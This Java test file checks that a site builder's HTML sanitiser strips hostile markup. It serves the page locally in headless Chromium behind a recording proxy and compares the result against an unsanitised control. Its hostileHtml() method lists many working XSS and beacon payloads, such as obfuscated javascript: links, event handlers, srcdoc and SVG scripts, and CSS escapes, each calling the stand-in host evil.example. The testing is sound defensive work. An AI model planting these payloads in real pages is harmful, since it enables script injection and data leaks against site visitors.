package org.handbookpress.sanitise;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.awt.image.BufferedImage;
import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import javax.imageio.ImageIO;
import org.handbookpress.HeadlessChromium;
import org.handbookpress.testing.ProjectFixture;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page full of hostile raw HTML, built and served over http on 127.0.0.1, opened in headless
 * Chromium whose only way out is a local proxy that records every request it is asked to make
 * (the site itself, on the loopback address, is reached directly; every other host name is also
 * mapped to "not found"). Nothing may reach the proxy and no script may run: each script vector sets
 * a mark on the page and asks for a picture from evil.example. The same HTML, unsanitised, is opened
 * first as a control, so a harness that could not see a leak fails the test.
 */
class HostileHtmlInBrowserTest {

    private static final String EVIL = "evil.example";

    @TempDir
    Path dir;

    private HttpServer site;
    private final List<String> siteRequests = Collections.synchronizedList(new ArrayList<>());
    private ServerSocket proxy;
    private final List<String> proxyRequests = Collections.synchronizedList(new ArrayList<>());
    /** Connections to the proxy that sent nothing before closing ({@link #record}). */
    private final List<String> unusedConnections = Collections.synchronizedList(new ArrayList<>());
    /** The folder the site server serves: first the control page, then the built site. */
    private volatile Path served;

    /** A script that marks the page and phones home. */
    private static String ran(String vector) {
        return "document.documentElement.setAttribute('data-ran-" + vector + "','');new Image().src='https://" + EVIL + "/ran-" + vector + "'";
    }

    static String hostileHtml() {
        return String.join("\n\n",
                "<script>" + ran("inline") + "</script>",
                "<script src=\"ht&#x09;tps://" + EVIL + "/tab.js\"></script>",
                "<img src=\"images/ok.png\" alt=\"srcset\" srcset=\"https://" + EVIL + "/srcset.png 2x, https://" + EVIL + "/srcset.png 1x\">",
                "<picture><source srcset=\"https://" + EVIL + "/picture.webp\" type=\"image/webp\"><img src=\"images/ok.png\" alt=\"picture\"></picture>",
                "<div style=\"background:url(https://" + EVIL + "/style.png);width:40px;height:40px\">style</div>",
                "<style>@import url(\"https://" + EVIL + "/import.css\"); body { background-image: url(//" + EVIL + "/body.png) }</style>",
                "<video poster=\"https://" + EVIL + "/poster.jpg\" width=\"80\" height=\"40\"></video>",
                "<input type=\"image\" src=\"https://" + EVIL + "/input.png\" alt=\"go\">",
                "<svg width=\"20\" height=\"20\"><image href=\"https://" + EVIL + "/svgimage.png\" width=\"20\" height=\"20\"/></svg>",
                "<table background=\"https://" + EVIL + "/table.png\"><tr><td>cell</td></tr></table>",
                "<iframe srcdoc=\"&lt;script&gt;parent.document.documentElement.setAttribute('data-ran-srcdoc','')&lt;/script&gt;"
                        + "&lt;img src=https://" + EVIL + "/srcdoc.png&gt;\"></iframe>",
                "<div style=\"background-image:url('/\\" + EVIL + "/backslash.png');width:20px;height:20px\">backslash</div>",
                "<base href=\"https://" + EVIL + "/\">",
                "<meta http-equiv=\"refresh\" content=\"0; url=https://" + EVIL + "/refresh\">",
                "<a href=\"https://example.org/\" ping=\"https://" + EVIL + "/ping\">a link with ping</a>",
                "<img src=\"images/ok.png\" alt=\"onload\" onload=\"" + ran("onload") + "\">",
                "<svg onload=\"" + ran("svgonload") + "\"><circle r=\"2\"/></svg>",
                "<details open ontoggle=\"" + ran("toggle") + "\"><summary>s</summary>t</details>",
                "<object data=\"images/active.svg\" type=\"image/svg+xml\" width=\"20\" height=\"20\"></object>",
                "<embed src=\"https://" + EVIL + "/embed.svg\">",
                "<link rel=\"stylesheet\" href=\"https://" + EVIL + "/link.css\">",
                "<audio src=\"https://" + EVIL + "/audio.mp3\" autoplay></audio>",
                "<iframe src=\"https://" + EVIL + "/frame\" title=\"frame\"></iframe>",
                "<div style=\"background: u\\72l(https://" + EVIL + "/escape.png);width:20px;height:20px\">escape</div>",
                "<a href=\"java&#x09;script:" + ran("jslink") + "\">js</a> <svg><a xlink:href=\"javascript:alert(1)\"><text y=\"9\">x</text></a></svg>",
                "<form action=\"https://" + EVIL + "/form\"><button formaction=\"https://" + EVIL + "/button\">go</button></form>",
                "<div class=\"never-closed\">\nunclosed",
                "![remote](https://" + EVIL + "/markdown.png)");
    }

    static final String ACTIVE_SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><circle r=\"4\" cx=\"5\" cy=\"5\"/>"
            + "<script>" + ran("svgfile") + ";try{parent.document.documentElement.setAttribute('data-ran-svgparent','')}catch(e){}</script></svg>";

    @BeforeEach
    void startServers() throws IOException {
        served = Files.createDirectories(dir.resolve("control"));
        site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        site.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            siteRequests.add(path);
            Path root = served;
            Path file = root.resolve(path.substring(1)).normalize();
            byte[] body = file.startsWith(root) && Files.isRegularFile(file) ? Files.readAllBytes(file) : null;
            String name = file.getFileName() == null ? "" : file.getFileName().toString().toLowerCase(Locale.ROOT);
            exchange.getResponseHeaders().set("Content-Type", name.endsWith(".svg") ? "image/svg+xml" : name.endsWith(".png")
                    ? "image/png" : name.endsWith(".css") ? "text/css" : name.endsWith(".js") ? "text/javascript" : "text/html; charset=utf-8");
            exchange.sendResponseHeaders(body == null ? 404 : 200, body == null ? -1 : body.length);
            if (body != null) {
                exchange.getResponseBody().write(body);
            }
            exchange.close();
        });
        site.start();
        proxy = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread recorder = new Thread(() -> {
            while (!proxy.isClosed()) {
                Socket client;
                try {
                    client = proxy.accept();
                } catch (IOException closed) {
                    return;
                }
                // Each connection on a thread of its own: one that Chromium opens and leaves idle must not hold up the next.
                Thread reader = new Thread(() -> record(client));
                reader.setDaemon(true);
                reader.start();
            }
        });
        recorder.setDaemon(true);
        recorder.start();
    }

    /**
     * Records a connection's request line. A connection closed without a byte is counted apart: Chromium opens sockets
     * to its proxy ahead of need (its own calls home retry, seen twice in one run for accounts.google.com) and, when it
     * exits first, closes them unused. Such a socket names no host and carries no request, so it is no request leaving
     * the site; a page's request through a proxy always begins with its line ({@code GET http://…} or {@code CONNECT
     * host:443}), which the control page shows being recorded.
     */
    private void record(Socket client) {
        try (client) {
            client.setSoTimeout(30_000);
            String first = new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.ISO_8859_1)).readLine();
            (first == null ? unusedConnections : proxyRequests).add(first == null ? "(a connection that sent nothing)" : first);
        } catch (java.net.SocketTimeoutException e) {
            proxyRequests.add("(a connection that sent no line in 30 s)"); // open all that time: not Chromium's exit
        } catch (IOException e) {
            unusedConnections.add("(a connection reset before a line: " + e.getMessage() + ")");
        }
    }

    @AfterEach
    void stopServers() throws IOException {
        site.stop(0);
        proxy.close();
    }

    private Document open(String path) throws Exception {
        URI page = URI.create("http://127.0.0.1:" + site.getAddress().getPort() + "/" + path);
        // Fewer of Chromium's own calls home (network time, optimisation hints, server-side form data); those left
        // (updates, accounts) are told apart by their host in pageRequests().
        List<String> flags = List.of("--proxy-server=http://127.0.0.1:" + proxy.getLocalPort(),
                "--disable-features=NetworkTimeServiceQuerying,OptimizationHints,AutofillServerCommunication,MediaRouter",
                "--disable-domain-reliability", "--disable-client-side-phishing-detection",
                "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--autoplay-policy=no-user-gesture-required");
        return Jsoup.parse(HeadlessChromium.dumpDom(page, 1000, 2000, 5000, flags, dir));
    }

    /**
     * What the proxy was asked for on the page's behalf: Chromium's own calls home (updates, time,
     * accounts), which reach the local proxy too and nothing beyond it, are left out.
     */
    private List<String> pageRequests() {
        synchronized (proxyRequests) {
            return proxyRequests.stream().filter(r -> !r.matches("(?i)\\S+ (https?://)?[^/ ]*\\.(google\\.com|googleapis\\.com|gstatic\\.com)[:/ ].*"))
                    .toList();
        }
    }

    private static List<String> marks(Document dom) {
        return dom.select("html").first().attributes().asList().stream().map(a -> a.getKey()).filter(k -> k.startsWith("data-ran")).toList();
    }

    @Test
    void noRequestLeavesTheSiteAndNoScriptRuns() throws Exception {
        HeadlessChromium.assumeAvailable();

        // Control: the same HTML as written, not built, must be seen to leak and to run (without the
        // meta refresh, which would leave for an error page before the marks could be read).
        Files.writeString(served.resolve("control.html"), "<!DOCTYPE html><html><head><title>Control</title></head><body>"
                + hostileHtml().replaceAll("<meta[^>]*>", "") + "</body></html>");
        Files.createDirectories(served.resolve("images"));
        Files.writeString(served.resolve("images/active.svg"), ACTIVE_SVG);
        Document control = open("control.html");
        assertFalse(marks(control).isEmpty(), "the harness sees scripts run: " + control.select("html").first().attributes());
        assertFalse(pageRequests().isEmpty(), "the harness sees requests leave");
        assertTrue(pageRequests().stream().anyMatch(r -> r.contains(EVIL)), pageRequests().toString());
        proxyRequests.clear();
        unusedConnections.clear();
        served = Files.createDirectories(dir.resolve("site"));

        // The built site.
        ProjectFixture project = new ProjectFixture(dir.resolve("project"))
                .file("handbook.yml", "title: Hostile\nbroken-links: warning\n")
                .file("index.md", "---\ntitle: Home\n---\nSee [the page](hostile.md).\n")
                .file("hostile.md", "---\ntitle: Hostile\n---\nA page full of hostile HTML.\n\n" + hostileHtml() + "\n\nThe end.\n")
                .file("images/active.svg", ACTIVE_SVG)
                .bytes("images/ok.png", png());
        project.build();
        copyTree(project.output(), served);
        String built = Files.readString(served.resolve("hostile.html"));
        for (String gone : List.of("javascript:", "srcdoc", "ping=", "<base", "http-equiv=\"refresh\"", "<object", "<embed")) {
            assertFalse(built.toLowerCase(Locale.ROOT).contains(gone.toLowerCase(Locale.ROOT)), gone + " left in the built page");
        }

        Document parsed = Jsoup.parse(built);
        assertTrue(parsed.getAllElements().stream().flatMap(e -> e.attributes().asList().stream())
                .noneMatch(a -> a.getKey().toLowerCase(Locale.ROOT).startsWith("on")), "no event attributes left");
        parsed.select("a[href]").removeAttr("href"); // a link to evil.example (the frame's) is for the reader to follow
        assertFalse(parsed.outerHtml().contains(EVIL), "only links name the other site: " + built);

        Document page = open("hostile.html");
        assertNotNull(page.selectFirst("main, body"), "the page opened");
        assertTrue(page.text().contains("The end."), "the page's end survived the unclosed div");
        assertEquals(List.of(), marks(page), "no script ran");
        assertEquals(List.of(), pageRequests(), "no request left the site (not counted, connections that sent nothing: "
                + unusedConnections + ")");

        Document svg = open("images/active.svg");
        assertEquals(List.of(), marks(svg), "the served SVG runs nothing");
        assertEquals(List.of(), pageRequests(), "the served SVG asks for nothing outside");
        for (String request : siteRequests) {
            assertFalse(request.contains(EVIL), "a request for another site's path on ours: " + request);
        }
    }

    private static byte[] png() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB), "png", out);
        return out.toByteArray();
    }

    private static void copyTree(Path from, Path to) throws IOException {
        try (var walk = Files.walk(from)) {
            for (Path source : walk.toList()) {
                Path target = to.resolve(from.relativize(source).toString());
                if (Files.isDirectory(source)) {
                    Files.createDirectories(target);
                } else {
                    Files.copy(source, target);
                }
            }
        }
    }
}
